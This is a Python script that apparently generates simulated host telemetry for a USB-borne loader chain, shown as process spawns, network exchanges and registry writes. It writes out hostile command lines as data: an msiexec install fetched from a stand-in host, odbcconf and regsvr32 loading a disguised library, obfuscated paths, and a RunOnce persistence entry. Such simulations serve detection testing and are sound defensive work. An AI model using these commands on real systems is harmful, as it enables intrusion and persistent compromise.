"""A loader from a USB stick: a shortcut has cmd read a file there, msiexec fetches a library, odbcconf registers it, and a bare
regsvr32 that it fills asks many servers. Paths have forward slashes, names mixed case, and a final dot."""
from scenery import Desktop

SETTING = {"start": "2022-09-12T08:31:40", "user": "OFICINA\\lucía", "home": "C:\\Users\\lucía", "computer": "OFICINA"}
RUN_ONCE = r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\RunOnce"
MICROSOFT = {"company": "Microsoft Corporation"}


def story(c):
    desktop = Desktop(c)
    system32, wow = c.system_root + "\\System32\\", c.system_root + "\\SysWOW64\\"
    desktop.murmur(6)
    outer = c.spawn(desktop.explorer, system32 + "cmd.exe", r'"C:\Windows\System32\cmd.exe" /R  CMd<EhH.saV',
                    directory="E:\\", **MICROSOFT)
    c.read(outer, r"E:\EhH.saV", 120)
    inner = c.spawn(outer, system32 + "cmd.exe", "CMd", directory="E:\\", **MICROSOFT)
    installer = c.spawn(inner, system32 + "msiexec.exe", 'mSiexEC  /Q-i"HTtp://q.exam.example:8080/4wF1/OFICINA?luc"',
                        directory="E:\\", **MICROSOFT)
    c.exchange(installer, ("203.0.113.8", 8080), 49340, [230], [14_600] * 20)
    library = r"C:\ProgramData\Uhmd\gzyxk.etl"
    c.folder(installer, r"C:\ProgramData\Uhmd")
    c.drop(installer, library, 291_500)
    tail = "-E /C -a {REGSVR \"C:/ProgramData/Uhmd/gzyxk.etl.\"} /A {CONFIGSYSDSN wiyd KxUrd}"
    runner = c.spawn(installer, wow + "rundll32.exe", '"%srundll32.exe" SHELL32,ShellExec_RunDLL "%sodbcconf.exe" %s' % (
        wow, wow, tail), is_64bit=False, **MICROSOFT)
    odbc = c.spawn(runner, wow + "odbcconf.exe", '"%sodbcconf.exe" %s' % (wow, tail), is_64bit=False, **MICROSOFT)
    c.load(odbc, library)
    for process in (runner, installer, inner, outer):
        c.exit(process)
    c.set_value(odbc, RUN_ONCE + r"\bxd", "REG_SZ",
                r'RUNDLL32.EXE SHELL32.DLL,ShellExec_RunDLLA REGSVR32.EXE -U /s "C:\ProgramData\Uhmd\gzyxk.etl."')
    filled = c.spawn(odbc, wow + "regsvr32.exe", wow + "regsvr32.exe", is_64bit=False, **MICROSOFT)
    for number, remote in enumerate((("198.51.100.4", 9001), ("198.51.100.5", 443), ("203.0.113.77", 9001))):
        c.exchange(filled, remote, 49350 + number, [517, 600], [1900])
        c.wait(4)
    desktop.murmur(4)
